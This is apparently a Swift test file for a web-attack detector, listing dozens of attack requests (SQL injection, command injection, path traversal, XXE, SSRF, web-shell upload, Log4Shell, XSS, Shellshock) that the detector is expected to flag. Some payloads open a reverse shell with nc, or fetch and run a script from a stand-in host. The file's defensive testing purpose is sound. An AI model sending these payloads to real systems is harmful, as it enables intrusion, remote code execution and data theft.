import Analysis
import Flows
import Reports
import Terms
import Testing

@testable import Detection

/// Requests in the manner of the tools that people attack web applications with.
@Suite struct WebToolTests {
  /// Each condemns itself; the technique that it must be named by, where that is beyond doubt.
  static let requests: [(String, String, String)] = [
    // sqlmap, with and without its tamper scripts.
    ("sqli", "GET /item?id=1%20AND%201846%3D1846", ""),
    ("sqli", "GET /item?id=1%29%20AND%202957%3D8311%20AND%20%288523%3D8523", ""),
    (
      "sqli",
      "GET /item?id=1%27%20AND%20%28SELECT%202*%28IF%28%28SELECT%20*%20FROM%20%28SELECT%20CONCAT%280x71%2C0x71%29%29s%29%2C%208446744073709551610%2C%208446744073709551610%29%29%29--%20x",
      ""
    ),
    (
      "sqli",
      "GET /item?id=1%20AND%20%28SELECT%204857%20FROM%28SELECT%20COUNT%28%2A%29%2CCONCAT%280x7171%2CFLOOR%28RAND%280%29%2A2%29%29x%20FROM%20INFORMATION_SCHEMA.PLUGINS%20GROUP%20BY%20x%29a%29",
      ""
    ),
    (
      "sqli",
      "GET /item?id=1%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CCONCAT%280x716a%2C0x71%29--%20-", ""
    ),
    ("sqli", "GET /item?id=1%3BSELECT%20PG_SLEEP%285%29--", ""),
    ("sqli", "GET /item?id=1%27%7C%7CDBMS_PIPE.RECEIVE_MESSAGE%28CHR%2898%29%2C5%29%7C%7C%27", ""),
    ("sqli", "GET /item?id=1%20WAITFOR%20DELAY%20%270%3A0%3A5%27", ""),
    ("sqli", "GET /item?id=1/**/aNd/**/2193=2193", ""),
    (
      "sqli",
      "GET /item?id=1%20RLIKE%20%28SELECT%20%28CASE%20WHEN%20%286207%3D6207%29%20THEN%201%20ELSE%200x28%20END%29%29",
      ""
    ),
    (
      "sqli",
      "GET /item?id=-7862%20OR%201%20GROUP%20BY%20CONCAT%280x7e%2Cversion%28%29%2CFLOOR%28RAND%280%29*2%29%29%20HAVING%20MIN%280%29%23",
      ""
    ),
    (
      "sqli", "POST /login\nContent-Type: application/x-www-form-urlencoded",
      "user=bob&pass=x%27%20OR%20SLEEP%285%29%23"
    ),
    ("sqli", "POST /api\nContent-Type: application/json", #"{"id":"1' UNION SELECT 1,2,3-- -"}"#),
    // commix and shells by hand.
    (
      "command-injection",
      "GET /ping?host=1%3Becho%20GQKDWS%24%28%2868%2B13%29%29%24%28echo%20GQKDWS%29", ""
    ),
    ("command-injection", "GET /ping?host=1%7C%7Cping%20-c%204%20203.0.113.9", ""),
    ("command-injection", "GET /ping?host=1%26%26sleep%205", ""),
    ("command-injection", "GET /ping?host=%3B%24%7BIFS%7Dcat%24%7BIFS%7D/etc/passwd", ""),
    (
      "command-injection", "POST /ping\nContent-Type: application/x-www-form-urlencoded",
      "host=1;nc -e /bin/sh 203.0.113.9 4444"
    ),
    ("", "GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E/tmp/x)", ""),
    ("", "GET /shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.9/x.sh;sh+x.sh", ""),
    // nikto, nuclei, dirb and worms of cameras.
    ("", "GET /../../../../../../../../../../etc/passwd", ""),
    ("", "GET /.%252e/.%252e/.%252e/.%252e/etc/passwd", ""),
    ("", "GET /icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd", ""),
    ("", "GET /cgi-bin/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/bin/sh", ""),
    ("", "GET /?page=....%5C%5C....%5C%5C....%5C%5Cwindows%5C%5Cwin.ini", ""),
    ("", "GET /static//..%5c..%5c..%5c..%5cetc%5cpasswd", ""),
    ("", "GET /%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd", ""),
    (
      "",
      "GET /index.php?s=/index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=x",
      ""
    ),
    (
      "", "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
      "<?php echo md5('x'); system('id'); ?>"
    ),
    ("", "GET /?a=fetch&content=%3Cphp%3Edie(@md5(HelloThink))%3C/php%3E&f=php://input", ""),
    (
      "", "POST /api\nContent-Type: text/xml",
      "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>"
    ),
    (
      "code-injection", "POST /api\nContent-Type: application/xml",
      "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % d SYSTEM \"http://203.0.113.9/e.dtd\"> %d;]><r/>"
    ),
    ("", "GET /fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/", ""),
    ("", "GET /fetch?url=gopher://127.0.0.1:6379/_INFO", ""),
    ("", "GET /fetch?url=file:///etc/passwd", ""),
    (
      "", "POST /invoke\nContent-Type: application/x-java-serialized-object",
      "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ=="
    ),
    (
      "", "POST /x\nContent-Type: application/x-www-form-urlencoded",
      "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"
    ),
    ("", "GET /?x=%7B%7Brequest.application.__globals__.__builtins__%7D%7D", ""),
    ("", "GET /?name=%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%27id%27%29%7D", ""),
    ("", "GET /?x=O:8:%22stdClass%22:1:%7Bs:1:%22a%22;s:2:%22id%22;%7D&y=phar://x", ""),
    // Operators, filters, templates and objects in the place of values.
    ("sqli", "POST /login", "user[$ne]=x&pass[$ne]=x"),
    ("sqli", "POST /login", "username=admin'--&password=x"),
    ("sqli", "GET /item?id=1'%20ORDER%20BY%205--%20-", ""),
    ("sqli", "GET /item?id=5'%20and%20substring(version(),1,1)='5", ""),
    ("sqli", "GET /search?q=x'%20or%20name%20like%20'b%25", ""),
    ("code-injection", "GET /search?q=*)(uid=*))(|(uid=*", ""),
    ("code-injection", "GET /x?n=%3C%25%3D%207*7%20%25%3E", ""),
    ("code-injection", "GET /x?n=%23%7B7*7%7D", ""),
    ("code-injection", "GET /x?n=%7B%7B''.__class__.__mro__%5B1%5D.__subclasses__()%7D%7D", ""),
    ("code-injection", "GET /x?u=a%0d%0aSet-Cookie:%20sid=1", ""),
    (
      "code-injection", "PUT /up/x.jsp",
      "<%@ page import=\"java.io.*\" %><% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>"
    ),
    ("code-injection", "POST /?q=user/password&name%5B%23post_render%5D%5B%5D=passthru", "a=b"),
    ("code-injection", "GET /\nUser-Agent: }__test|O:21:\"JDatabaseDriver\":3:{s:2:\"fc\";}", ""),
    (
      "code-injection",
      "POST /functionRouter\nspring-expression: T(java.lang.Runtime).getRuntime().exec(\"id\")", ""
    ),
    (
      "code-injection", "POST /wls-wsat/CoordinatorPortType\nContent-Type: text/xml",
      "<java><void class=\"java.lang.ProcessBuilder\"><void method=\"start\"/></void></java>"
    ),
    ("code-injection", "GET /x.php?c=phpinfo();", ""),
    ("code-injection", "GET /x.php?c=system(%22id%22);", ""),
    ("command-injection", "GET /p?h=1%7Cid", ""), ("command-injection", "GET /p?h=1%0aid", ""),
    ("command-injection", "GET /p?h=1%26whoami", ""),
    ("command-injection", "GET /p?h=1%26dir%20c:%5C", ""),
    ("xss", "GET /search?q='-alert(1)-'", ""),
    // Servers made to ask themselves, or their cloud.
    ("file-inclusion", "GET /fetch?url=http://127.0.0.1:22/", ""),
    ("file-inclusion", "GET /fetch?url=http://2130706433/admin", ""),
    ("file-inclusion", "GET /fetch?url=http://%5B::1%5D:6379/", ""),
    ("file-inclusion", "GET /fetch?url=http://localhost/server-status", ""),
    // Log4Shell in the manner of scanners.
    (
      "log4shell",
      "GET /\nX-Forwarded-For: ${jndi:${lower:l}${lower:d}a${lower:p}://203.0.113.9/a}", ""
    ),
    (
      "log4shell",
      "GET /\nUser-Agent: ${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//203.0.113.9/a}",
      ""
    ),
    ("log4shell", "GET /\nCookie: a=${${upper:j}n${::-d}i:l${::-d}ap://203.0.113.9/a}", ""),
    (
      "log4shell",
      "GET /\nX-A: ${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:${date:'l'}dap://x.example/a}", ""
    ),
    (
      "log4shell", "POST /api\nContent-Type: application/json",
      #"{"user":"${jndi:iiop://203.0.113.9/a}"}"#
    ),
    ("log4shell", "GET /?q=%24%7B%24%7B%3A%3A-j%7Dndi%3Aldap%3A%2F%2F203.0.113.9%2Fa%7D", ""),
    // Cross-site scripts in the manner of xsser, dalfox and wapiti.
    ("xss", "GET /s?q=%27%22%3E%3Csvg%2Fonload%3Dalert%281%29%3E", ""),
    ("xss", "GET /s?q=%3Cdetails%2Fopen%2Fontoggle%3Dprompt%601%60%3E", ""),
    ("xss", "GET /s?q=%3Ca%20href%3D%22jav%26%23x09%3Bascript%3Aalert%281%29%22%3Ex", ""),
    ("xss", "GET /s?q=%3Cbody%20onpageshow%3Dalert%281%29%3E", ""),
    ("xss", "GET /s?q=%22%20autofocus%20onfocus%3Dalert%281%29%20x%3D%22", ""),
    ("shellshock", "GET /cgi-bin/x\nReferer: () { ignored; }; echo; /bin/ping -c1 203.0.113.9", ""),
    ("shellshock", "GET /cgi-bin/x\nCookie: () { :;};/usr/bin/curl http://203.0.113.9/", ""),
  ]

  @Test(arguments: requests) func aToolsRequestIsAnAttack(
    technique: String, head: String, body: String
  ) throws {
    var story = try SessionStory(WebAttack(DetectionContext()))
    try story.ask(head, body: body, status: 404)
    let told = story.finish()
    #expect(!told.isEmpty, "\(head) \(body)")
    if !technique.isEmpty { #expect(told.first?.text("technique") == technique, "\(head)") }
  }
}
